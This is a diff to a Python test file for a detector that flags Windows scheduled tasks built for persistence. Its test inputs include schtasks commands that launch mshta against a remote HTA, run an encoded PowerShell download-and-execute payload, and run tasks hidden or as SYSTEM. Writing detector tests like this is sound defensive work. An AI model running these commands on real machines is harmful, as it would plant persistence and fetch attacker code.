@@ -130,6 +130,9 @@ def test_a_task_built_like_persistence_is_reported_for_each_sign() -> None:
     assert task_lines(f"$s = New-ScheduledTaskSettingsSet -Hidden\n{register} -Settings $s") == [2]
     assert task_lines("schtasks /create /tn U /tr \"mshta.exe http://198.51.100.7/t.hta\" /sc daily /f") == [1]
     assert task_lines("schtasks /create /tn U /tr C:\\Tools\\report.exe /sc onstart /ru SYSTEM") == [1]
+    assert task_lines("schtasks /create /tn U /tr \"powershell -enc SQBFAFgAIAAoAGkAdwByACkA\" /sc daily") == [1]
+    assert task_lines("schtasks /create /tn Audit /tr C:\\Tools\\audit.exe /sc onevent /ec Security "
+                      "/mo \"*[System[EventID=4625]]\"") == []
     assert task_lines("$t = $def.Triggers.Create(9)\n$svc.GetFolder('\\').RegisterTaskDefinition('U', $def, 6, $null, $null, 3)"
                       ) == [2]
     assert task_lines("$a.Path = 'C:\\Tools\\report.exe'\n$t = $def.Triggers.Create(2)\n"
